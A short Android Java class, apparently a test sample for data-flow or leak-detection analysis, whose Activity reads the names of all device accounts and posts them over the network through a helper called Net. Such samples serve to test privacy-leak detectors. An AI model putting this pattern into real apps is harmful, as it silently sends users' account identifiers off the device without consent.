package org.example.flows.phone;

import android.accounts.Account;
import android.accounts.AccountManager;
import android.app.Activity;
import android.os.Bundle;
import org.example.flows.Net;
import org.json.JSONArray;

public class Accounts extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        JSONArray names = new JSONArray();
        for (Account account : AccountManager.get(this).getAccounts()) {
            names.put(account.name);
        }
        Net.post(names.toString());
    }
}
